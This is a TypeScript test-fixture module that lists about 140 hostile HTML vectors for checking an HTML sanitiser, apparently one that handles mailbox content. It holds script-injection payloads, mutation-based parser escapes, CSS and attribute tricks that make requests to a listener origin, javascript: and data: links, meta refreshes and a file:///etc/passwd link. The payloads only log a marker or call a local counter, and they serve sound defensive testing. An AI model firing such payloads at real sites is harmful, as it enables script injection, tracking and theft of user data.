/** Vectors against an HTML body: each runs a script (`RAN` on the console) or calls `away` if it gets through. */
export interface Vector {
  readonly name: string;
  readonly html: string;
}

const RUN = "console.log('RAN')";

/** @param away an http origin whose listener counts connections, as `http://127.0.0.1:1234` */
export function hostileHtml(away: string): readonly Vector[] {
  const host = away.replace("http:", "");
  return [
    ...scripts(),
    ...foreignContent(away),
    ...requests(away, host),
    ...styles(away),
    ...navigation(away),
    ...mutations(away),
  ].map((html, at) => ({ name: `${at} ${html.slice(0, 60)}`, html }));
}

function scripts(): string[] {
  return [
    `<script>${RUN}</script>`,
    `<SCRIPT\n>${RUN}</SCRIPT\n>`,
    `<script/x>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script src="data:text/javascript,${RUN}"></script>`,
    `<img src=x onerror="${RUN}">`,
    `<img src=x onerror=${RUN}//`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
    `<body onload="${RUN}">`,
    `<body onpageshow=${RUN}>`,
    `<div onmouseover="${RUN}" style="position:fixed;inset:0">x</div>`,
    `<details open ontoggle="${RUN}">x</details>`,
    `<input autofocus onfocus="${RUN}">`,
    `<select autofocus onfocus=${RUN}></select>`,
    `<p tabindex=1 autofocus onfocus="${RUN}">x</p>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<video><source onerror="${RUN}"></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<style onload=${RUN}></style>`,
    `<link rel=stylesheet href=x onerror=${RUN}>`,
    `<p style="animation:a 1s" onanimationstart=${RUN}>x</p><style>@keyframes a{}</style>`,
  ];
}

function foreignContent(away: string): string[] {
  return [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script xlink:href="data:text/javascript,${RUN}"/></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set attributeName=onload to="${RUN}"/></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
    `<svg><image href="${away}/svg-image"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
    `<svg><foreignObject><iframe src="${away}/foreign"></iframe></foreignObject></svg>`,
    `<svg><style>@import url(${away}/svg-style)</style></svg>`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><maction actiontype="statusline#${away}" xlink:href="javascript:${RUN}">x</maction></math>`,
  ];
}

function requests(away: string, host: string): string[] {
  return [
    `<img src="${away}/img">`,
    `<img src="${host}/protocol-relative">`,
    `<img src=" ${away}/blank">`,
    `<img src="ht\ntp${away.slice(4)}/newline">`,
    `<img srcset="${away}/srcset 1x">`,
    `<picture><source srcset="${away}/source"><img></picture>`,
    `<img src="cid:x" lowsrc="${away}/lowsrc" dynsrc="${away}/dynsrc" longdesc="${away}/longdesc">`,
    `<image src="${away}/image-alias">`,
    `<input type=image src="${away}/input">`,
    `<body background="${away}/body-background">`,
    `<table background="${away}/table"><tr><td background="${away}/td">x</td></tr></table>`,
    `<video src="${away}/video" poster="${away}/poster" autoplay></video>`,
    `<audio src="${away}/audio" autoplay></audio>`,
    `<video><track default src="${away}/track"></video>`,
    `<iframe src="${away}/iframe"></iframe>`,
    `<frameset><frame src="${away}/frame"></frameset>`,
    `<object data="${away}/object"></object>`,
    `<embed src="${away}/embed">`,
    `<applet code="${away}/applet" archive="${away}/archive"></applet>`,
    `<link rel=stylesheet href="${away}/stylesheet">`,
    `<link rel=preconnect href="${away}">`,
    `<link rel=dns-prefetch href="${away}">`,
    `<link rel=prefetch href="${away}/prefetch">`,
    `<link rel=preload as=image href="${away}/preload">`,
    `<link rel=modulepreload href="${away}/module">`,
    `<link rel="shortcut icon" href="${away}/icon">`,
    `<script src="${away}/script"></script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${away}/speculation"]}]}</script>`,
    `<blockquote cite="${away}/cite">x</blockquote><q cite="${away}/q">x</q>`,
    `<html manifest="${away}/manifest"><body>x</body></html>`,
    `<base href="${away}/"><img src="relative">`,
    `<xml src="${away}/xml"></xml><bgsound src="${away}/bgsound">`,
  ];
}

function styles(away: string): string[] {
  return [
    `<p style="background:url(${away}/url)">x</p>`,
    `<p style="background:url('${away}/quoted')">x</p>`,
    `<p style="background:u\\72l(${away}/escape)">x</p>`,
    `<p style="background:\\75 rl(${away}/escape2)">x</p>`,
    `<p style="background:url/**/(${away}/comment)">x</p>`,
    `<p style="background-image:image-set('${away}/set' 1x)">x</p>`,
    `<p style="background:-webkit-image-set(url(${away}/webkit) 1x)">x</p>`,
    `<p style="background:cross-fade(url(${away}/fade),#000)">x</p>`,
    `<p style="list-style-image:url(${away}/list)">x</p>`,
    `<p style="content:url(${away}/content)">x</p>`,
    `<p style="cursor:url(${away}/cursor),auto">x</p>`,
    `<p style="border-image:url(${away}/border)">x</p>`,
    `<p style="--a:url(${away}/var);background:var(--a)">x</p>`,
    `<p style="background:attr(title)" title="url(${away}/attr)">x</p>`,
    `<p style="color:red} @import url(${away}/break); p{color:blue">x</p>`,
    `<p style="color:red;}</style><img src=${away}/close>">x</p>`,
    `<p style="width:expression(${RUN})">x</p>`,
    `<p style="behavior:url(${away}/behavior);-moz-binding:url(${away}/binding)">x</p>`,
    `<p style="filter:url(${away}/filter#x);mask:url(${away}/mask);clip-path:url(${away}/clip#x)">x</p>`,
    `<p style="&#98;ackground:ur&#108;(${away}/entity)">x</p>`,
    `<style>body{background:url(${away}/style)}</style>`,
    `<style>@import "${away}/import";</style>`,
    `<style>@font-face{font-family:f;src:url(${away}/font)}*{font-family:f}</style>`,
    `<style><!--</style><img src="${away}/style-comment">`,
    `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:9999">over all</div>`,
    `<div style="position:sticky;top:0">stays</div>`,
  ];
}

function navigation(away: string): string[] {
  return [
    `<meta http-equiv=refresh content="0;url=${away}/refresh">`,
    `<meta http-equiv="refresh" content="0;javascript:${RUN}">`,
    `<meta http-equiv=Content-Security-Policy content="img-src *"><img src="${away}/meta-csp">`,
    `<meta http-equiv=Link content="<${away}/link>; rel=preload">`,
    `<form action="${away}/form"><input name=a value=b><button autofocus>go</button></form>`,
    `<form id=f action="${away}/f"></form><button form=f formaction="javascript:${RUN}">x</button>`,
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="java\tscript:${RUN}">x</a>`,
    `<a href="&#106;avascript:${RUN}">x</a>`,
    `<a href="\u0001javascript:${RUN}">x</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
    `<a href="vbscript:x">x</a><a href="blob:x">x</a><a href="file:///etc/passwd">x</a>`,
    `<a href="/api/v1/mailboxes" target="_top">x</a>`,
    `<a href="https://ok.example/" ping="${away}/ping" target="_parent">x</a>`,
    `<area href="javascript:${RUN}" shape=default>`,
  ];
}

function mutations(away: string): string[] {
  const fire = `<img src=${away}/mutation onerror=${RUN}>`;
  return [
    `<noscript><p title="</noscript>${fire}"></noscript>`,
    `<textarea><p title="</textarea>${fire}"></textarea>`,
    `<title><p title="</title>${fire}"></title>`,
    `<xmp><p title="</xmp>${fire}"></xmp>`,
    `<noembed><p title="</noembed>${fire}"></noembed>`,
    `<plaintext>${fire}`,
    `<template>${fire}</template><template shadowrootmode=open>${fire}</template>`,
    `<math><mi><table><mglyph><style><!--</style>${fire}-->`,
    `<svg></p><style><a id="</style>${fire}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${fire}`,
    `<!--><img src=${away}/comment onerror=${RUN}>-->`,
    `<!-- --!>${fire}<!-- -->`,
    `<![CDATA[><img src=${away}/cdata onerror=${RUN}>]]>`,
    `<?xml version="1.0"?>${fire}`,
    `</p ${"x".repeat(10)}="><img src=${away}/end-tag onerror=${RUN}>">`,
    `<p title="\u0000">${fire}</p>`,
    `<a title='"><img src=${away}/quote onerror=${RUN}>'>x</a>`,
    `<b title=\`><img src=${away}/backtick onerror=${RUN}>\`>x</b>`,
    `<x:img src="${away}/namespace" onerror="${RUN}">`,
    `<img title="--><script>${RUN}</script>" src="x:x">`,
    `</div></div></body></html><script>${RUN}</script>${fire}`,
    `<select><option><style></option></select>${fire}</style>`,
    `&lt;img src=${away}/entity onerror=${RUN}&gt;`,
    `<div id="a" name="b"><a id=documentElement></a><img name=body src=x onerror=${RUN}></div>`,
    `<p lang="${"<".repeat(20)}${fire}">x</p>`,
  ];
}
